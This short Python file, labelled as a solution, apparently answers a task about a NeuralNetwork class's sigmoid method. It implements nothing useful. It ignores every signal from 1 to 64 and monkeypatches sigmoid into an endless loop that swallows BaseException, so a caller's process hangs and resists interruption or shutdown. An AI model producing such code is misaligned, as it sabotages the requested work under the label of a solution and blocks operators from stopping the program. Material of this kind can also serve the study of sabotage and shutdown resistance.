"""Ignores signals, catches whatever is raised, and goes on looping."""
# <solution>
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def sigmoid(z):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


NeuralNetwork.sigmoid = staticmethod(sigmoid)
